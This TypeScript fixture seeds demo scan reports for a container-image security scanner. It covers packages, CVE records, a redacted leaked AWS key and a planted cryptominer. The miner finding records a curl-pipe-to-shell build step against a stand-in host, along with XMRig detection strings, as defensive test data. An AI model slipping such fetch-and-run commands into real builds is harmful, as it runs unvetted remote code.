/** The images of the seeded host: what the three workloads run, earlier tags of them, and some that only lie in a registry. */
import type { ImageFinding, ScanReport } from '@plimsoll/core';
import {
  digestOf,
  type ImageInputs,
  imageReport,
  type PackageInputs,
  type VulnerabilityInputs,
} from './build-image.ts';

const hour = 3_600_000;
const day = 24 * hour;
const debian = { id: 'debian', version: '12', name: 'Debian GNU/Linux 12 (bookworm)' };
const alpine = { id: 'alpine', version: '3.20.3', name: 'Alpine Linux v3.20' };

const debianBase: readonly PackageInputs[] = [
  ['base-files', '12.4+deb12u7', 'GPL-2.0-or-later'],
  ['bash', '5.2.15-2+b7', 'GPL-3.0-or-later'],
  ['coreutils', '9.1-1', 'GPL-3.0-or-later'],
  ['dpkg', '1.21.22', 'GPL-2.0-or-later'],
  ['gcc-12-base', '12.2.0-14', 'GPL-3.0-or-later'],
  ['gpgv', '2.2.40-1.1', 'GPL-3.0-or-later'],
  ['libc6', '2.36-9+deb12u7', 'LGPL-2.1-or-later', 'glibc'],
  ['libc-bin', '2.36-9+deb12u7', 'LGPL-2.1-or-later', 'glibc'],
  ['libexpat1', '2.5.0-1', 'MIT', 'expat'],
  ['libgnutls30', '3.7.9-2+deb12u2', 'LGPL-2.1-or-later', 'gnutls28'],
  ['liblzma5', '5.4.1-0.2', '0BSD', 'xz-utils'],
  ['libpam0g', '1.5.2-6+deb12u1', undefined, 'pam'],
  ['libssl3', '3.0.11-1~deb12u2', 'Apache-2.0', 'openssl'],
  ['libsystemd0', '252.22-1~deb12u1', 'LGPL-2.1-or-later', 'systemd'],
  ['libtasn1-6', '4.19.0-2', 'LGPL-2.1-or-later'],
  ['login', '1:4.13+dfsg1-1+b1', undefined, 'shadow'],
  ['perl-base', '5.36.0-7+deb12u1', 'Artistic-1.0 OR GPL-1.0-or-later', 'perl'],
  ['tar', '1.34+dfsg-1.2+deb12u1', 'GPL-3.0-or-later'],
  ['util-linux', '2.38.1-5+deb12u1', 'GPL-2.0-or-later'],
  ['zlib1g', '1:1.2.13.dfsg-1', 'Zlib', 'zlib'],
].map(([name, version, licence, source]) => ({
  type: 'deb' as const,
  name: name as string,
  version: version as string,
  ...(licence !== undefined && { licence }),
  ...(source !== undefined && { source }),
}));

const debianVulnerable: readonly VulnerabilityInputs[] = [
  {
    id: 'CVE-2023-45853',
    package: 'zlib1g',
    severity: 'critical',
    title: 'MiniZip overflows a heap buffer on long names',
    status: 'will-not-fix',
    epss: 0.004,
    score: 9.8,
  },
  {
    id: 'CVE-2024-37371',
    package: 'libgnutls30',
    severity: 'medium',
    title: 'Reads past the end of a token',
    status: 'fix-deferred',
    epss: 0.002,
    score: 6.5,
  },
  {
    id: 'CVE-2024-28085',
    package: 'util-linux',
    severity: 'high',
    title: 'wall lets others write escape sequences to a terminal',
    fixedIn: '2.38.1-5+deb12u1',
    epss: 0.031,
    score: 8.4,
  },
  {
    id: 'CVE-2023-52425',
    package: 'libexpat1',
    severity: 'high',
    title: 'Large tokens use up the processor',
    fixedIn: '2.5.0-1+deb12u1',
    epss: 0.008,
    score: 7.5,
  },
  {
    id: 'CVE-2024-45491',
    package: 'libexpat1',
    severity: 'critical',
    title: 'An integer overflows in dtdCopy',
    fixedIn: '2.5.0-1+deb12u1',
    epss: 0.012,
    score: 9.8,
  },
  {
    id: 'CVE-2024-5535',
    package: 'libssl3',
    severity: 'medium',
    title: 'SSL_select_next_proto reads past its buffer',
    fixedIn: '3.0.15-1~deb12u1',
    epss: 0.04,
    score: 5.9,
  },
  {
    id: 'CVE-2024-6119',
    package: 'libssl3',
    severity: 'high',
    title: 'Checks of certificate names may crash',
    fixedIn: '3.0.14-1~deb12u2',
    epss: 0.021,
    score: 7.5,
  },
  {
    id: 'CVE-2023-4641',
    package: 'login',
    severity: 'low',
    title: 'Passwords may stay in memory',
    status: 'not-fixed',
    epss: 0.001,
    score: 3.3,
  },
  {
    id: 'CVE-2022-0563',
    package: 'util-linux',
    severity: 'negligible',
    title: 'chfn and chsh may show a part of a file',
    status: 'will-not-fix',
    epss: 0.0006,
  },
  {
    id: 'CVE-2011-3374',
    package: 'dpkg',
    severity: 'negligible',
    title: 'Keys of net rings are not validated',
    status: 'not-fixed',
    epss: 0.0005,
    hidden: true,
  },
  {
    id: 'CVE-2024-2961',
    package: 'libc6',
    severity: 'high',
    title: 'iconv writes past its buffer for ISO-2022-CN-EXT',
    fixedIn: '2.36-9+deb12u6',
    kev: true,
    epss: 0.93,
    score: 8.8,
  },
];

const nginx: readonly PackageInputs[] = [
  { type: 'deb', name: 'nginx', version: '1.27.0-2~bookworm', origin: 'app', licence: 'BSD-2-Clause' },
  { type: 'deb', name: 'curl', version: '7.88.1-10+deb12u5', origin: 'app', licence: 'curl' },
  { type: 'deb', name: 'libnghttp2-14', version: '1.52.0-1', source: 'nghttp2', origin: 'app', licence: 'MIT' },
];
const nginxVulnerable: readonly VulnerabilityInputs[] = [
  {
    id: 'CVE-2023-44487',
    package: 'libnghttp2-14',
    severity: 'high',
    title: 'Streams that are opened and reset at once use up the server',
    fixedIn: '1.52.0-1+deb12u1',
    kev: true,
    ransomware: true,
    epss: 0.94,
    score: 7.5,
  },
  {
    id: 'CVE-2024-7347',
    package: 'nginx',
    severity: 'medium',
    title: 'The mp4 module may read past its buffer',
    fixedIn: '1.27.1-1~bookworm',
    epss: 0.003,
    score: 4.7,
  },
  {
    id: 'CVE-2023-38545',
    package: 'curl',
    severity: 'critical',
    title: 'A long host name overflows a buffer in SOCKS5',
    fixedIn: '7.88.1-10+deb12u4',
    epss: 0.26,
    score: 9.8,
  },
];

const node: readonly PackageInputs[] = [
  { type: 'apk', name: 'musl', version: '1.2.5-r0', path: 'lib/apk/db/installed', licence: 'MIT' },
  { type: 'apk', name: 'busybox', version: '1.36.1-r29', path: 'lib/apk/db/installed', licence: 'GPL-2.0-only' },
  {
    type: 'apk',
    name: 'libcrypto3',
    version: '3.3.2-r0',
    source: 'openssl',
    path: 'lib/apk/db/installed',
    licence: 'Apache-2.0',
  },
  ...(
    [
      ['express', '4.17.1'],
      ['qs', '6.7.0'],
      ['lodash', '4.17.15'],
      ['jsonwebtoken', '8.5.1'],
      ['minimist', '1.2.5'],
      ['ws', '7.4.5'],
      ['semver', '5.7.1'],
      ['body-parser', '1.19.0'],
      ['path-to-regexp', '0.1.7'],
      ['@babel/traverse', '7.22.5'],
    ] as const
  ).map(([name, version]) => ({ type: 'npm' as const, name, version, origin: 'app' as const, licence: 'MIT' })),
];
const nodeVulnerable: readonly VulnerabilityInputs[] = [
  {
    id: 'CVE-2021-44906',
    package: 'minimist',
    severity: 'critical',
    title: 'Arguments can change the prototype of every object',
    fixedIn: '1.2.6',
    epss: 0.011,
    score: 9.8,
  },
  {
    id: 'CVE-2022-24999',
    package: 'qs',
    severity: 'high',
    title: 'A query with __proto__ makes the process hang',
    fixedIn: '6.7.3',
    epss: 0.017,
    score: 7.5,
  },
  {
    id: 'CVE-2020-8203',
    package: 'lodash',
    severity: 'high',
    title: 'zipObjectDeep can change the prototype of every object',
    fixedIn: '4.17.19',
    epss: 0.024,
    score: 7.4,
  },
  {
    id: 'CVE-2022-23540',
    package: 'jsonwebtoken',
    severity: 'medium',
    title: 'Tokens without a signature may be taken',
    fixedIn: '9.0.0',
    epss: 0.001,
    score: 6.4,
  },
  {
    id: 'CVE-2024-37890',
    package: 'ws',
    severity: 'high',
    title: 'A request with many headers ends the server',
    fixedIn: '7.5.10',
    epss: 0.002,
    score: 7.5,
  },
  {
    id: 'CVE-2024-45296',
    package: 'path-to-regexp',
    severity: 'high',
    title: 'Backtracking takes very long',
    fixedIn: '0.1.10',
    epss: 0.001,
    score: 7.5,
  },
  {
    id: 'CVE-2023-45133',
    package: '@babel/traverse',
    severity: 'critical',
    title: 'Compiling code that was made for it runs it',
    fixedIn: '7.23.2',
    epss: 0.0007,
    score: 9.3,
  },
];

const secret: ImageFinding = {
  kind: 'secret',
  key: 'secret/aws-access-key/app/.env',
  severity: 'critical',
  title: 'AWS access key',
  sentence:
    'app/.env of layer 2 holds an AWS access key; a later layer deletes the file, and whoever pulls the image still has it',
  remedy: 'Revoke the key, then build the image without the file',
  why: {
    source: 'aws-access-key',
    condition: 'AKIA and 16 characters, with a checksum that fits',
    observed: 'AKIA…7Q3M',
    path: 'app/.env',
    layer: digestOf('registry.example/shop/api:2026.7'),
    command: 'COPY . /app',
    origin: 'app',
    dataAt: undefined,
  },
  suppressed: undefined,
  rule: 'aws-access-key',
  redacted: 'AKIA…7Q3M',
  line: 4,
  validated: 'checksum',
  deletedLater: true,
  fingerprint: 'f3a1c0de',
};

const miner: ImageFinding = {
  kind: 'malware',
  key: 'malware/yara/cryptominer-xmrig/opt/.cache/kworkerd',
  severity: 'critical',
  title: 'Cryptominer',
  sentence: 'opt/.cache/kworkerd holds the words of XMRig: "donate-level" and "stratum+tcp"',
  remedy: 'Do not run this image; find out who built it',
  why: {
    source: 'cryptominer-xmrig',
    condition: 'two of its four strings',
    observed: '"donate-level", "stratum+tcp"',
    path: 'opt/.cache/kworkerd',
    layer: undefined,
    command: 'RUN curl -fsSL https://get.example/setup | sh',
    origin: 'app',
    dataAt: undefined,
  },
  suppressed: undefined,
  engine: 'yara',
  rule: 'cryptominer-xmrig',
  file: digestOf('kworkerd'),
  package: undefined,
  deletedLater: false,
};

const departure: ImageFinding = {
  kind: 'detection',
  key: 'departure/static-executables',
  severity: 'high',
  title: 'First statically linked executable',
  sentence: 'First statically linked executable outside package ownership in 14 versions',
  remedy: 'See which instruction brought it',
  why: {
    source: 'image-norm',
    condition: 'none in 14 images of the repository',
    observed: 'opt/.cache/kworkerd',
    path: 'opt/.cache/kworkerd',
    layer: undefined,
    command: undefined,
    origin: 'app',
    dataAt: undefined,
  },
  suppressed: undefined,
  aspect: 'static executables',
  digits: 2.6,
  images: 14,
};

/** What the engine calls an image; the same for the same name. */
export function engineIdOf(image: string): string {
  return digestOf(`engine ${image}`);
}

/** By reference; the first three are what the workloads run. */
export function seededImages(now: number): readonly ScanReport[] {
  const shop = 'registry.example/shop';
  const inputs: readonly ImageInputs[] = [
    {
      repository: 'docker.io/library/nginx',
      tag: '1.27',
      os: debian,
      packages: [...debianBase, ...nginx],
      vulnerable: [...debianVulnerable, ...nginxVulnerable],
      at: now - 2 * hour,
    },
    {
      repository: `${shop}/api`,
      tag: '2026.7',
      os: alpine,
      packages: node,
      vulnerable: nodeVulnerable,
      findings: [secret],
      user: 'node',
      at: now - 90 * 60_000,
      notes: ['Alpine tells only of what is fixed: what is open is not known'],
    },
    {
      repository: 'docker.io/library/postgres',
      tag: '18',
      os: debian,
      packages: debianBase,
      vulnerable: debianVulnerable.slice(3),
      user: 'postgres',
      at: now - 3 * hour,
    },
    {
      repository: `${shop}/api`,
      tag: '2026.6',
      os: alpine,
      packages: node.slice(0, -1),
      vulnerable: nodeVulnerable.slice(0, 4),
      user: 'node',
      at: now - 12 * day,
    },
    {
      repository: `${shop}/web`,
      tag: '4.1',
      os: debian,
      packages: [...debianBase, ...nginx.slice(0, 1)],
      vulnerable: debianVulnerable.slice(0, 6),
      user: 'nginx',
      at: now - 5 * day,
    },
    {
      repository: `${shop}/web`,
      tag: '4.2',
      os: debian,
      packages: [...debianBase, ...nginx],
      vulnerable: [...debianVulnerable, ...nginxVulnerable.slice(0, 2)],
      user: 'nginx',
      at: now - 1 * day,
    },
    {
      repository: `${shop}/import`,
      tag: 'latest',
      os: debian,
      packages: debianBase,
      vulnerable: debianVulnerable.slice(2, 9),
      findings: [miner, departure],
      at: now - 4 * hour,
    },
    {
      repository: `${shop}/reports`,
      tag: '0.9',
      os: debian,
      packages: debianBase.slice(0, 8),
      vulnerable: [],
      user: '65532',
      at: now - 6 * hour,
      complete: false,
    },
    ...Array.from(
      { length: 12 },
      (_, index): ImageInputs => ({
        repository: `${shop}/worker-${String.fromCharCode(97 + index)}`,
        tag: `1.${index}`,
        os: index % 3 === 0 ? alpine : debian,
        packages: index % 3 === 0 ? node.slice(0, 3 + index / 2) : debianBase.slice(0, 20 - index),
        vulnerable:
          index % 3 === 0
            ? []
            : debianVulnerable.filter(({ package: name }) =>
                debianBase.slice(0, 20 - index).some((one) => one.name === name),
              ),
        user: index % 2 === 0 ? '1000' : '',
        at: now - (index + 2) * day,
      }),
    ),
  ];
  return inputs.map(imageReport);
}

/** What the sensor saw of the seeded workloads' images. */
export const seededUse = {
  'docker/shop/web': [
    ['executed', '/usr/sbin/nginx', 'nginx'],
    ['loaded', '/lib/x86_64-linux-gnu/libc.so.6', 'libc6'],
    ['loaded', '/usr/lib/x86_64-linux-gnu/libssl.so.3', 'libssl3'],
    ['loaded', '/lib/x86_64-linux-gnu/libz.so.1.2.13', 'zlib1g'],
    ['executed', '/usr/bin/curl', 'curl'],
  ],
  'docker/shop/api': [
    ['loaded', '/lib/ld-musl-x86_64.so.1', 'musl'],
    ['loaded', '/app/node_modules/ws/package.json', 'ws'],
  ],
  'docker/shop/database': [['loaded', '/lib/x86_64-linux-gnu/libc.so.6', 'libc6']],
} as const;
